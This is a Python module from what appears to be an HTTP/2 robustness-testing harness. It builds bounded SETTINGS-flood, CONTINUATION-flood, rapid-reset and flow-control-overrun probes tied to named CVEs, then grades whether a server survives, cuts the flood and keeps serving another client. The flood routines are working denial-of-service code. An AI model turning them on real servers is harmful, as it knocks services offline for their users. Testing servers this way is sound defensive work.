"""HTTP/2 probes that attack (RFC 9113 s10.5): floods of SETTINGS and CONTINUATION frames, streams opened and
reset at once, DATA past the advertised window. A server must live through each and keep serving another
client; it should cut the flood. Each is bounded in bytes and time, and measured: how far the flood went,
the server's memory over it (its process group, as the harness holds it), a second client's answer."""

from __future__ import annotations

import time

from hpack.hpack import encode_integer

from . import h2frames as f
from .h2talk import STREAM, H2Seen, Talk, get
from .probe import Probe, Verdict
from .target import HELLO, Target
from .wire import Limits, Observation, Write

MIB = 1 << 20
SETTINGS_FLOOD = 10_000
CONTINUATION_BYTES = 32 * MIB  # the flood stops here (or after FLOOD_SECONDS) if the server never cuts it
FLOOD_SECONDS = 4.0
GROWTH = 16 * MIB  # memory grown by more than this, and by half the flood, is the finding
RESETS = 1000
SLOW_SECOND = 1.0  # a second client answered later than this warns
WINDOW_CAP = 16 * MIB  # a window larger than this is not overflowed


def _second_ok(seen: H2Seen) -> tuple[bool, str]:
    second = seen.second
    if second is None or second.first is None or second.first.status != 200 or second.first.body != HELLO:
        return False, "a second client was not answered"
    return True, f"a second client was answered in {second.seconds * 1000:.0f} ms"


def _memory(target: Target) -> int | None:
    try:
        return target.memory()
    except OSError:
        return None


def _field(size: int) -> bytes:
    """One literal field without indexing (x-flood: a...): a header block fragment that decodes."""
    value = b"a" * size
    return b"\x00\x07x-flood" + bytes(encode_integer(len(value), 7)) + value


def continuation_flood(target: Target, limits: Limits) -> H2Seen:
    talk = Talk(target, limits)
    chunk = _field(1000) * 16
    try:
        talk.send(f.start())
        talk.until(lambda s: bool(s.peer), limits.answer)  # its SETTINGS acknowledged before the header block
        talk.holding = True
        talk.send(f.frame(f.HEADERS, f.END_STREAM, STREAM, f.block(f.request_fields(target))))
        before, peak, sent, start = _memory(target), None, 0, time.monotonic()
        while sent < CONTINUATION_BYTES and (elapsed := time.monotonic() - start) < FLOOD_SECONDS:
            if not talk.send(f.frame(f.CONTINUATION, 0, STREAM, chunk)) or not talk.read(0) \
                    or talk.seen.goaway is not None:
                talk.seen.cut = None if talk.stalled else time.monotonic() - start
                break
            sent += len(chunk)
            if talk.seen.second is None and elapsed >= 1.0:
                talk.seen.second = get(target, limits)
            if sent % (64 * len(chunk)) == 0 and (now := _memory(target)) is not None:
                peak = max(peak or 0, now)
        talk.until(lambda s: False, limits.linger)
        if talk.seen.cut is None and (talk.seen.closed or talk.seen.goaway is not None):
            talk.seen.cut = time.monotonic() - start
        talk.seen.second = talk.seen.second or get(target, limits)
        after = _memory(target)
        if before is not None and after is not None:
            talk.seen.grew = max(peak or 0, after) - before
        talk.seen.note, talk.seen.flood = f"{sent / MIB:.1f} MiB of CONTINUATION" + (
            ", then it stopped reading" if talk.stalled else ""), sent
    finally:
        talk.close()
    return talk.seen


def _grew(seen: H2Seen) -> str:
    return "" if seen.grew is None else f", memory {seen.grew / MIB:+.0f} MiB"


def continuation_grade(seen: Observation) -> Verdict:
    assert isinstance(seen, H2Seen)
    ok, second = _second_ok(seen)
    if not ok:
        return "fail", f"{second} during {seen.note}"
    if seen.grew is not None and seen.grew > max(GROWTH, seen.flood // 2):
        return "fail", f"grew with the flood: {seen.note}{_grew(seen)}; {second}"
    if seen.cut is None:
        return "bad", f"took {seen.note} in {FLOOD_SECONDS:g} s without cutting it{_grew(seen)}; {second}"
    how = f"GOAWAY {f.error_name(seen.goaway)}" if seen.goaway is not None else "closed"
    return "pass", f"cut after {seen.note} ({how}, {seen.cut:.2f} s){_grew(seen)}; {second}"


def rapid_reset(target: Target, limits: Limits) -> H2Seen:
    talk = Talk(target, limits)
    try:
        talk.send(f.start())
        fields = f.request_fields(target)
        for first in range(0, RESETS, 100):
            burst = b"".join(f.headers(2 * i + 1, fields) + f.rst_stream(2 * i + 1, f.CANCEL)
                             for i in range(first, first + 100))
            if not talk.send(burst) or not talk.read(0):
                break
        talk.seen.second = get(target, Limits(answer=limits.answer + SLOW_SECOND, linger=0))
        talk.until(lambda s: False, limits.linger)
    finally:
        talk.close()
    return talk.seen


def rapid_reset_grade(seen: Observation) -> Verdict:
    assert isinstance(seen, H2Seen)
    ok, second = _second_ok(seen)
    if not ok:
        return "fail", f"{second} after {RESETS} streams opened and reset"
    said = f"GOAWAY {f.error_name(seen.goaway)}" if seen.goaway is not None else "closed" if seen.closed \
        else "kept the connection"
    if seen.second.seconds > SLOW_SECOND:
        return "bad", f"{said} after {RESETS} streams opened and reset; {second}, over {SLOW_SECOND:g} s"
    return "pass", f"{said} after {RESETS} streams opened and reset; {second}"


def settings_flood(target: Target, limits: Limits) -> H2Seen:
    talk = Talk(target, limits)
    try:
        talk.send(f.start())
        talk.until(lambda s: s.acks >= 1, limits.answer)  # the ACK of our opening SETTINGS is not counted
        opening = talk.seen.acks
        for _ in range(0, SETTINGS_FLOOD, 500):
            if not talk.send(f.settings((f.ENABLE_PUSH, 0)) * 500) or not talk.read(0.001):
                break
        talk.send(f.headers(STREAM, f.request_fields(target)))
        talk.until(lambda s: s.done(STREAM), limits.answer)
        talk.until(lambda s: s.acks - opening >= SETTINGS_FLOOD, limits.answer)  # the ACKs it still owes
        talk.until(lambda s: False, limits.linger)
        talk.seen.acks -= opening
        talk.seen.second = get(target, limits)
    finally:
        talk.close()
    return talk.seen


def settings_grade(seen: Observation) -> Verdict:
    assert isinstance(seen, H2Seen)
    ok, second = _second_ok(seen)
    if not ok:
        return "fail", f"{second} after {SETTINGS_FLOOD} SETTINGS"
    if seen.goaway is not None or seen.closed:
        how = f"GOAWAY {f.error_name(seen.goaway)}" if seen.goaway is not None else "closed"
        return "pass", f"cut it ({how}) after {seen.acks} ACKs of {SETTINGS_FLOOD} SETTINGS; {second}"
    return "bad", f"acknowledged {seen.acks} of {SETTINGS_FLOOD} SETTINGS and kept the connection; {second}"


def over_window(target: Target, limits: Limits) -> H2Seen:
    talk = Talk(target, limits)
    try:
        talk.send(f.start())
        talk.until(lambda s: bool(s.peer), limits.answer)
        talk.until(lambda s: False, 0.1)  # its connection WINDOW_UPDATE, if it sends one at once
        window = min(talk.seen.peer.get(f.INITIAL_WINDOW_SIZE, f.DEFAULT_WINDOW), talk.seen.window)
        size = talk.seen.peer.get(f.MAX_FRAME_SIZE, f.DEFAULT_FRAME)
        talk.seen.note = f"a window of {window}"
        if window > WINDOW_CAP:
            talk.seen.note += f", too large to overrun here (over {WINDOW_CAP // MIB} MiB)"
            return talk.seen
        talk.send(f.headers(STREAM, f.request_fields(target, "POST"), end_stream=False))
        total, data = window + size, bytearray()
        for at in range(0, total, size):
            last = at + size >= total
            data += f.frame(f.DATA, f.END_STREAM if last else 0, STREAM, b"x" * min(size, total - at))
        talk.send(bytes(data))
        talk.seen.seconds = None
        talk.until(lambda s: s.goaway is not None or s.resets.get(STREAM) == f.FLOW_CONTROL_ERROR, limits.answer)
        talk.until(lambda s: False, limits.linger)
    finally:
        talk.close()
    return talk.seen


def over_window_grade(seen: Observation) -> Verdict:
    assert isinstance(seen, H2Seen)
    past = f"{seen.note} overrun by a frame"
    if seen.goaway == f.FLOW_CONTROL_ERROR:
        return "pass", f"GOAWAY FLOW_CONTROL_ERROR: {past}"
    if seen.resets.get(STREAM) == f.FLOW_CONTROL_ERROR:
        return "pass", f"RST_STREAM FLOW_CONTROL_ERROR: {past}"
    if "too large" in seen.note:
        return "warn", seen.note
    # It may have granted the window back as it read the DATA, which is not told apart from outside.
    said = f", reset the stream ({f.error_name(seen.resets[STREAM])})" if STREAM in seen.resets else ""
    return "warn", f"no FLOW_CONTROL_ERROR for {past}{said}: it ignores its window or granted it back as it read"


def _probe(name: str, what: str, section: str, run, rule) -> Probe:
    return Probe(name=name, family="h2", section=section, level="SHOULD", what=what,
                 writes=lambda t: (Write(f.start()),), rule=rule, run=run)


PROBES = (
    _probe("h2-settings-flood", f"{SETTINGS_FLOOD:,} SETTINGS frames without reading their ACKs, then a GET",
           "RFC 9113 s10.5 (CVE-2019-9515)", settings_flood, settings_grade),
    _probe("h2-data-over-window", "DATA past the stream's advertised flow-control window, by one frame",
           "RFC 9113 s6.9.1", over_window, over_window_grade),
    _probe("h2-continuation-flood", f"HEADERS without END_HEADERS, then CONTINUATION frames for up to "
           f"{CONTINUATION_BYTES // MIB} MiB or {FLOOD_SECONDS:g} s; a second client meanwhile",
           "RFC 9113 s10.5 (CVE-2024-27316)", continuation_flood, continuation_grade),
    _probe("h2-rapid-reset", f"{RESETS} streams each opened by HEADERS and reset at once; a second client after",
           "RFC 9113 s10.5 (CVE-2023-44487)", rapid_reset, rapid_reset_grade),
)
